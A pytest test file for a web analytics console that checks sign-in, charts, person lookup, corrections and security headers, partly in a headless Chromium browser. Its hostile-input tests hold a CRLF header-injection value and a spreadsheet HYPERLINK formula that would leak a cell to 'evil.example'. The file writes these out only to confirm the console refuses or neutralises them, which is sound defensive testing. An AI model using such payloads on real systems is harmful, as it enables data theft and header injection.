"""The web console in a real browser: Debian's Chromium driven by chromedriver, against a running `idstream up`
(worker, API, warehouse) with tokens, fed a generated stream.

Without Chromium the browser tests skip, naming the packages; `.ci/run` installs them and sets
IDSTREAM_REQUIRE_BROWSER=1, so there they fail instead. IDSTREAM_SCREENSHOTS=DIR saves each page's picture there
(the README's screenshots come from this run).
"""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import redis

from streams.cli import read_topic
from streams.console.i18n import choose
from streams.settings import Settings
from tests.e2e import ROOT, wait_for
from tests.test_cli_up import Up, up_env

CHROMIUM, CHROMEDRIVER = "/usr/bin/chromium", "/usr/bin/chromedriver"
READ_TOKEN = "console-read-token-5f1c2a9e7b"  # noqa: S105 - test secrets
WRITE_TOKEN = "console-write-token-8d3b6e0c4a"  # noqa: S105


def _browser_or_skip() -> None:
    missing = [p for p in (CHROMIUM, CHROMEDRIVER) if not Path(p).exists()]
    if missing:
        why = f"{', '.join(missing)} missing (Debian: apt-get install chromium chromium-driver)"
        if os.environ.get("IDSTREAM_REQUIRE_BROWSER") == "1":
            pytest.fail(why)
        pytest.skip(why)


@dataclass
class Console:
    url: str  # http://127.0.0.1:PORT/console/
    api: str  # http://127.0.0.1:PORT
    env: dict[str, str]
    events: int

    def http(self, path: str, *, cookies: dict[str, str] | None = None, data: bytes | None = None) -> Any:
        """A request to the API server (no browser): the response, or the HTTPError (which is one too)."""
        request = urllib.request.Request(self.api + path, data=data)  # noqa: S310 - our own loopback server
        if cookies:
            request.add_header("Cookie", "; ".join(f"{k}={v}" for k, v in cookies.items()))
        if data is not None:
            request.add_header("Content-Type", "application/x-www-form-urlencoded")
        try:
            return urllib.request.urlopen(request, timeout=30)  # noqa: S310
        except urllib.error.HTTPError as exc:
            return exc

    def api_json(self, path: str) -> Any:
        request = urllib.request.Request(self.api + path, headers={"Authorization": f"Bearer {READ_TOKEN}"})  # noqa: S310
        with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310
            return json.loads(response.read())

    def profiles(self) -> list[dict[str, Any]]:
        out = subprocess.run([sys.executable, "-m", "streams.cli", "export"], env=self.env, cwd=ROOT,
                             capture_output=True, text=True, timeout=120, check=True).stdout  # fmt: skip
        return [json.loads(line) for line in out.splitlines()]

    def store(self) -> Any:
        settings = Settings(redis_prefix=self.env["IDSTREAM_REDIS_PREFIX"])
        return settings.redis_store(redis.Redis.from_url(self.env["IDSTREAM_REDIS_URL"]))


def _lags(console: Console) -> list[int]:
    page = console.http("/console/health", cookies={"idstream_token": READ_TOKEN}).read().decode()
    start = page.index('<table id="lag">')
    table = page[start : page.index("</table>", start)]
    return [int(n.replace("\u202f", "")) for n in re.findall(r'<td class="n">([\d\u202f]+)</td>', table)]


@pytest.fixture(scope="module")
def console(kafka: str, redis_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    """`idstream up` with a read and an ingest token, 250 generated persons ingested, worker and warehouse done."""
    tmp = tmp_path_factory.mktemp("console")
    env = up_env(kafka, redis_url, tmp)
    env.update(IDSTREAM_API_TOKENS=json.dumps([READ_TOKEN]), IDSTREAM_INGEST_TOKENS=json.dumps([WRITE_TOKEN]))
    events = tmp / "events.jsonl"
    subprocess.run([sys.executable, "-m", "streams.cli", "generate", "--persons", "250", "--seed", "11", "--out",
                    str(events)], env=env, cwd=ROOT, capture_output=True, timeout=120, check=True)  # fmt: skip
    up = Up(env, tmp)
    try:
        found = re.search(r"lookup=(http://\S+)", up.first_line(120))
        assert found is not None
        api = found[1]
        subprocess.run([sys.executable, "-m", "streams.cli", "ingest", str(events), "--wait"], env=env, cwd=ROOT,
                       capture_output=True, timeout=300, check=True)  # fmt: skip
        deployment = Console(api + "/console/", api, env, len(events.read_text(encoding="utf-8").splitlines()))
        wait_for(lambda: (lags := _lags(deployment)) and set(lags) == {0}, 180, "the worker and the warehouse")
        yield deployment
    finally:
        up.process.terminate()
        try:
            up.wait(60)
        finally:
            up.kill()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    _browser_or_skip()
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                 "--disable-background-networking", "--disable-extensions", "--window-size=1400,1000",
                 "--lang=en-US"):  # fmt: skip
        options.add_argument(flag)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    driver.set_page_load_timeout(60)
    try:
        yield driver
    finally:
        driver.quit()


def _shot(driver: Any, name: str) -> None:
    """Save the page's picture when IDSTREAM_SCREENSHOTS names a directory (the README's screenshots)."""
    folder = os.environ.get("IDSTREAM_SCREENSHOTS")
    if not folder:
        return
    height = driver.execute_script("return document.documentElement.scrollHeight")
    driver.set_window_size(1400, min(max(height, 700), 2400))
    Path(folder).mkdir(parents=True, exist_ok=True)
    driver.save_screenshot(str(Path(folder) / f"{name}.png"))
    driver.set_window_size(1400, 1000)


def _sign_in(driver: Any, console: Console, token: str, write_token: str = "") -> None:
    from selenium.webdriver.common.by import By

    driver.delete_all_cookies()
    driver.get(console.url + "login")
    driver.find_element(By.ID, "token").send_keys(token)
    if write_token:
        driver.find_element(By.ID, "write_token").send_keys(write_token)
    driver.find_element(By.ID, "sign-in").click()
    wait_for(lambda: "/console/login" not in driver.current_url, 20, "the sign-in to be accepted")


def _by_id(driver: Any, element_id: str, timeout: float = 20) -> Any:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, timeout).until(expected_conditions.presence_of_element_located((By.ID, element_id)))


def _drawn(driver: Any) -> int:
    """Charts Chart.js has drawn on the page (console.js marks each canvas it drew)."""
    from selenium.webdriver.common.by import By

    wait_for(lambda: driver.execute_script("return document.readyState") == "complete", 20, "the page to load")
    return len(driver.find_elements(By.CSS_SELECTOR, "canvas[data-drawn='true']"))


# ----------------------------------------------------------------------------- in the browser


def test_sign_in_asks_for_a_token_and_keeps_it_in_an_http_only_cookie(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    browser.delete_all_cookies()
    browser.get(console.url + "persons?q=%2B79161234567")
    assert "/console/login" in browser.current_url  # nothing without a token, and back here after signing in
    _shot(browser, "login")
    browser.find_element(By.ID, "token").send_keys(WRITE_TOKEN)  # an ingest token cannot read
    browser.find_element(By.ID, "sign-in").click()
    assert "not accepted" in _by_id(browser, "login-error").text
    browser.find_element(By.ID, "token").send_keys(READ_TOKEN)
    browser.find_element(By.ID, "sign-in").click()
    wait_for(lambda: "/console/persons" in browser.current_url, 20, "the page asked for first")
    assert "+79161234567" in browser.find_element(By.ID, "q").get_attribute("value")
    cookie = browser.get_cookie("idstream_token")
    assert cookie is not None
    assert cookie["value"] == READ_TOKEN
    assert cookie["httpOnly"] is True
    assert cookie["secure"] is True
    assert cookie["sameSite"] == "Strict"
    assert READ_TOKEN not in browser.execute_script("return document.cookie")  # page scripts cannot read it
    # every script and style comes from the package: the console works offline
    sources = browser.execute_script(
        "return Array.from(document.querySelectorAll('script[src], link[href]')).map(e => e.src || e.href)"
    )
    assert sources
    assert all(s.startswith(console.api + "/console/static/") for s in sources), sources


def test_the_channels_page_charts_the_report_and_its_model_selector_changes_it(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    _sign_in(browser, console, READ_TOKEN)
    browser.get(console.url + "channels")
    assert _drawn(browser) == 3
    rows = browser.find_elements(By.CSS_SELECTOR, "#channels-table tbody tr")
    expected = console.api_json("/v1/reports/channels?model=last_non_direct")
    assert len(rows) == len(expected["rows"]) > 0
    assert rows[0].find_elements(By.TAG_NAME, "td")[0].text == expected["rows"][0]["source"]
    _shot(browser, "channels")
    Select(browser.find_element(By.ID, "model")).select_by_value("linear")
    browser.find_element(By.ID, "apply").click()
    wait_for(lambda: "model=linear" in browser.current_url, 20, "the linear report")
    linear = console.api_json("/v1/reports/channels?model=linear")
    footer = browser.find_element(By.CSS_SELECTOR, "#channels-table tfoot").text.replace("\u202f", "")
    assert f"{round(linear['total']['leads']):d}" in footer.split()
    csv_link = browser.find_element(By.ID, "csv").get_attribute("href")
    assert "model=linear" in csv_link
    csv = console.http(urllib.parse.urlsplit(csv_link).path + "?model=linear", cookies={"idstream_token": READ_TOKEN})
    assert csv.status == 200
    assert csv.headers["Content-Type"].startswith("text/csv")
    assert csv.read().decode().startswith("source,medium,campaign,visits,persons,leads,deals")


def test_a_person_is_found_as_typed_and_shown_with_their_card_deals_and_evidence(
    console: Console, browser: Any
) -> None:
    from selenium.webdriver.common.by import By

    people = [p for p in console.profiles() if p.get("display_name") and p["identifiers"].get("phone")
              and p.get("deals") and len(p["identifiers"]) >= 3]  # fmt: skip
    assert people, "the generated stream has named persons with a phone and a deal"
    person = max(people, key=lambda p: sum(len(v) for v in p["identifiers"].values()))
    phone = person["identifiers"]["phone"][0]  # +7XXXXXXXXXX, typed as a Russian caller would say it
    typed = f"8 ({phone[2:5]}) {phone[5:8]}-{phone[8:10]}-{phone[10:]}"
    _sign_in(browser, console, READ_TOKEN)
    browser.get(console.url + "persons")
    browser.find_element(By.ID, "q").send_keys(typed)
    browser.find_element(By.ID, "find").click()
    name = _by_id(browser, "person-name")
    assert name.text == person["display_name"]
    assert browser.current_url.endswith(f"/console/persons/{person['profile_id']}")
    shown = browser.find_element(By.ID, "identifiers").text
    for values in person["identifiers"].values():
        for value in values:
            assert value in shown
    deals = browser.find_element(By.ID, "deals").text
    assert all(deal_id in deals for deal_id in person["deals"])
    circles = browser.find_elements(By.CSS_SELECTOR, "#graph svg g.ident:not(.apart):not(.shared) circle")
    assert len(circles) == sum(len(v) for v in person["identifiers"].values())  # every identifier in the graph
    assert browser.find_elements(By.CSS_SELECTOR, "#links li")
    _shot(browser, "person")


def test_a_switchboard_lists_the_persons_who_share_it(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    from streams.cli import _shared_phone

    shared = _shared_phone(console.store(), console.profiles())
    assert shared is not None, "the generated stream has office switchboards"
    phone, persons = shared
    _sign_in(browser, console, READ_TOKEN)
    browser.get(console.url + "persons?" + urllib.parse.urlencode({"q": phone}))
    assert "shared by several persons" in _by_id(browser, "ambiguous").text
    assert len(browser.find_elements(By.CSS_SELECTOR, ".candidates li")) == min(persons, 20)
    _shot(browser, "switchboard")


def test_funnel_calls_and_health_pages_show_their_numbers(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    _sign_in(browser, console, READ_TOKEN)
    browser.get(console.url + "funnel?by=channel&period=week")
    assert _drawn(browser) == 2
    stages = [
        r.find_element(By.TAG_NAME, "th").text for r in browser.find_elements(By.CSS_SELECTOR, "#funnel-table tbody tr")
    ]
    assert len(stages) >= 3
    assert stages[-1] == "won"  # the generated pipeline ends in a win
    _shot(browser, "funnel")
    browser.get(console.url + "calls")
    assert _drawn(browser) == 2
    calls = console.api_json("/v1/reports/calls")
    tiles = browser.find_element(By.ID, "calls-total").text.replace("\u202f", "")
    assert str(calls["total"]["calls"]) in tiles.split()
    _shot(browser, "calls")
    browser.get(console.url + "health")
    lag = browser.find_element(By.ID, "lag").text
    group = console.env["IDSTREAM_APP_ID"]
    assert group in lag
    assert f"{group}-warehouse" in lag
    assert "ok" in browser.find_element(By.ID, "workers").text  # the worker's /metrics, read by the console
    assert str(console.events) in browser.find_element(By.ID, "rates").text.replace("\u202f", "")
    _shot(browser, "health")


def test_unlink_from_review_sends_identity_unlink_with_operator_and_reason(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    _sign_in(browser, console, READ_TOKEN, WRITE_TOKEN)
    browser.get(console.url + "review?type=merged")
    forms = browser.find_elements(By.CSS_SELECTOR, "form.correction")
    assert forms, "merged persons are listed with link and unlink"
    form = forms[0]
    chosen = [
        form.find_element(By.NAME, name).get_attribute("value")  # the selects' chosen identifiers
        for name in ("a", "b")
    ]
    assert chosen[0] != chosen[1], "two different identifiers are offered by default"
    form.find_element(By.NAME, "operator").send_keys("operator.ivanova")
    form.find_element(By.NAME, "reason").send_keys("two colleagues, one office")
    form.find_element(By.CSS_SELECTOR, "button[value='identity_unlink']").click()
    sent = _by_id(browser, "sent").text
    event_id = re.search(r"console:[0-9a-f-]{36}", sent)
    assert event_id is not None, sent
    _shot(browser, "review")

    def on_topic() -> dict[str, Any] | None:
        for topic in json.loads(console.env["IDSTREAM_TOUCH_TOPICS"]):
            for _, value in read_topic(console.env["IDSTREAM_KAFKA_BOOTSTRAP_SERVERS"], topic):
                event = json.loads(value or b"{}")
                if event.get("event_id") == event_id[0]:
                    return event  # type: ignore[no-any-return]
        return None

    event = wait_for(on_topic, 30, "the correction on the touch topic")
    assert event["type"] == "identity_unlink"
    assert event["attributes"] == {"actor": "operator.ivanova", "reason": "two colleagues, one office"}
    assert sorted(f"{i['kind']}:{i['value']}" for i in event["identifiers"]) == sorted(chosen)

    def applied() -> bool:
        changes = read_topic(console.env["IDSTREAM_KAFKA_BOOTSTRAP_SERVERS"], console.env["IDSTREAM_CHANGES_TOPIC"])
        return any((json.loads(v or b"{}").get("evidence") or {}).get("actor") == "operator.ivanova"
                   for _, v in changes)  # fmt: skip

    wait_for(applied, 60, "the worker to apply the unlink and announce it with its operator")


def test_a_read_only_session_sees_no_corrections_and_cannot_post_one(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    _sign_in(browser, console, READ_TOKEN)
    browser.get(console.url + "review?type=merged")
    assert "ingest token" in _by_id(browser, "read-only").text
    assert browser.find_elements(By.CSS_SELECTOR, "form.correction") == []
    # posted by hand with a valid session and CSRF token: still refused, nothing produced
    cookies = {c["name"]: c["value"] for c in browser.get_cookies()}
    csrf = browser.find_element(By.CSS_SELECTOR, "form[action='/console/logout'] input[name=csrf]").get_attribute(
        "value"
    )
    body = urllib.parse.urlencode({"csrf": csrf, "action": "identity_unlink", "a": "phone:+79160000001",
                                   "b": "phone:+79160000002", "operator": "x", "reason": "y"}).encode()  # fmt: skip
    answer = console.http("/console/review", cookies=cookies, data=body)
    assert answer.status == 400
    assert "ingest token" in answer.read().decode()
    # and without the CSRF token, even a writer's session is refused
    answer = console.http("/console/review", cookies={**cookies, "idstream_write": WRITE_TOKEN},
                          data=body.replace(csrf.encode(), b"0" * len(csrf)))  # fmt: skip
    assert answer.status == 403


def test_the_console_speaks_russian_when_asked_and_remembers_it(console: Console, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    _sign_in(browser, console, READ_TOKEN)
    browser.get(console.url + "channels?lang=ru")
    assert browser.find_element(By.TAG_NAME, "html").get_attribute("lang") == "ru"
    assert "Каналы" in browser.find_element(By.TAG_NAME, "nav").text
    browser.get(console.url + "calls")  # the choice is kept
    assert browser.find_element(By.TAG_NAME, "h1").text == "Звонки"
    _shot(browser, "calls-ru")
    browser.get(console.url + "channels?lang=en")


# ----------------------------------------------------------------------------- over HTTP


def test_pages_need_a_token_and_the_api_token_header_does_not_replace_the_cookie(console: Console) -> None:
    for path in ("/console/channels", "/console/persons?q=x", "/console/review", "/console/health"):
        answer = console.http(path)
        assert answer.status == 303 or answer.url.startswith(console.api + "/console/login"), path
        page = answer.read().decode()
        assert 'id="token"' in page, path  # the sign-in form, not the page
    forged = console.http("/console/channels", cookies={"idstream_token": "not-a-token-at-all-1234"})
    assert 'id="token"' in forged.read().decode()


def test_every_page_is_private_and_framing_and_inline_scripts_are_refused(console: Console) -> None:
    answer = console.http("/console/persons", cookies={"idstream_token": READ_TOKEN})
    assert answer.status == 200
    assert answer.headers["Cache-Control"] == "no-store"  # a person's data never lands in a shared cache
    assert answer.headers["Referrer-Policy"] == "same-origin"  # searched phone numbers never leave in a Referer
    csp = answer.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp


def test_a_form_posted_from_another_site_is_refused(console: Console) -> None:
    request = urllib.request.Request(  # noqa: S310
        console.api + "/console/login",
        data=urllib.parse.urlencode({"token": READ_TOKEN, "csrf": "x" * 64}).encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded", "Origin": "https://evil.example"},
    )
    try:
        urllib.request.urlopen(request, timeout=30)  # noqa: S310
        raise AssertionError("a cross-site sign-in was accepted")
    except urllib.error.HTTPError as exc:
        assert exc.code == 401
        assert "expired or came from another site" in exc.read().decode()


@pytest.mark.parametrize(
    ("explicit", "cookie", "header", "expected"),
    [
        (None, None, "ru-RU,ru;q=0.9,en-US;q=0.8", "ru"),
        (None, None, "en-US,en;q=0.9,ru;q=0.8", "en"),
        (None, None, "de-DE,de;q=0.9", "en"),
        (None, None, "de;q=0.9,ru;q=0.5", "ru"),
        (None, None, "en;q=0.2,ru;q=0.7", "ru"),
        (None, None, None, "en"),
        ("en", "ru", "ru", "en"),
        (None, "ru", "en", "ru"),
        ("xx", None, "ru", "ru"),
    ],
)
def test_the_language_follows_the_query_then_the_cookie_then_accept_language(
    explicit: str | None, cookie: str | None, header: str | None, expected: str
) -> None:
    assert choose(explicit, cookie, header) == expected


# ----------------------------------------------------------------------------- in process: faults and hostile input


def _config(redis_url: str, **kwargs: Any) -> Any:
    from identity import Normalizer, ResolutionPolicy
    from streams.lookup_api import ApiConfig

    return ApiConfig(redis_url, ResolutionPolicy(), Normalizer(), f"console-{os.getpid()}", (READ_TOKEN.encode(),),
                     ingest_tokens=(WRITE_TOKEN.encode(),), **kwargs)  # fmt: skip


async def _csrf_of(client: Any, cookies: dict[str, str]) -> tuple[str, dict[str, str]]:
    page = await client.get("/console/persons", cookies=cookies, allow_redirects=False)
    sid = page.cookies["idstream_sid"].value if "idstream_sid" in page.cookies else cookies["idstream_sid"]
    found = re.search(r'name="csrf" value="([0-9a-f]{64})"', await page.text())
    assert found is not None
    return found[1], {**cookies, "idstream_sid": sid}


def test_health_says_the_broker_is_away_instead_of_failing(redis_url: str) -> None:
    from tests.conftest import serve_api

    dead = f"127.0.0.1:{_closed_port()}"

    async def scenario(client: Any) -> None:
        cookies = {"idstream_token": READ_TOKEN}
        page = await client.get("/console/health", cookies=cookies)
        assert page.status == 200
        assert "The broker does not answer right now" in await page.text()
        again = await client.get("/console/health", cookies=cookies)  # the failure is remembered briefly
        assert "The broker does not answer right now" in await again.text()
        review = await client.get("/console/review", cookies=cookies)
        assert review.status == 503
        assert 'id="broker-error"' in await review.text()
        assert (await client.get("/healthz")).status == 200  # the API itself goes on

    serve_api(_config(redis_url, kafka=dead), scenario)


def test_hostile_form_values_get_a_page_that_names_the_problem_never_a_crash(
    redis_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    from tests.conftest import serve_api

    phone = "+7916123456789999999999"

    async def scenario(client: Any) -> None:
        cookies = {"idstream_token": READ_TOKEN, "idstream_write": WRITE_TOKEN}
        csrf, cookies = await _csrf_of(client, cookies)
        bad_csrf = await client.post("/console/review", cookies=cookies, data={"csrf": "ключ", "action": "x"})
        assert bad_csrf.status == 403  # a non-ASCII token is just a wrong one
        login = await client.post("/console/login", cookies=cookies, data={"csrf": "ключ", "token": READ_TOKEN})
        assert login.status == 401
        form = {"csrf": csrf, "action": "identity_unlink", "a": "phone:" + phone, "b": "Phone!:" + "x" * 300,
                "operator": "o", "reason": "r"}  # fmt: skip
        answer = await client.post("/console/review", cookies=cookies, data=form)
        assert answer.status in (400, 503)  # a clear page either way: invalid, or no broker to send to
        assert "application/json" not in answer.headers["Content-Type"]
        nxt = await client.get("/console/login?next=/console/x%0d%0aSet-Cookie:%20a=b", cookies=cookies)
        assert 'next=%2Fconsole%2F"' in (await nxt.text()).replace("&#34;", '"')  # a broken target becomes the home
        fake = await client.get("/console/review?sent=identity_link%20Your%20account%20is%20blocked",
                                cookies=cookies)  # fmt: skip
        assert "account is blocked" not in await fake.text()

    with caplog.at_level(logging.DEBUG):
        serve_api(_config(redis_url, kafka=None), scenario)
    assert phone not in caplog.text


def test_a_proxy_that_rewrites_host_still_accepts_the_console_own_forms(redis_url: str) -> None:
    from tests.conftest import serve_api

    async def scenario(client: Any) -> None:
        csrf, cookies = await _csrf_of(client, {"idstream_token": READ_TOKEN})
        headers = {"Origin": "https://console.example.ru", "X-Forwarded-Host": "console.example.ru"}
        ok = await client.post("/console/login", cookies=cookies, data={"csrf": csrf, "token": READ_TOKEN},
                               headers=headers, allow_redirects=False)  # fmt: skip
        assert ok.status == 303
        other = await client.post("/console/login", cookies=cookies, data={"csrf": csrf, "token": READ_TOKEN},
                                  headers={"Origin": "https://evil.example"}, allow_redirects=False)  # fmt: skip
        assert other.status == 401

    serve_api(_config(redis_url), scenario)


def test_the_csv_never_hands_a_spreadsheet_a_formula() -> None:
    from sinks.warehouse.report import ChannelReport, ChannelRow, render

    row = ChannelRow('=HYPERLINK("https://evil.example/?"&A2,"x")', "+cpc", "@camp", romi=-100.0)
    report = ChannelReport("linear", None, None, "RUB", [row], ChannelRow("(total)", "", ""))
    text = render(report, "csv")
    assert "'=HYPERLINK" in text
    assert ",'+cpc,'@camp," in text
    assert ",-100.0," in text  # numbers stay numbers


def _closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])
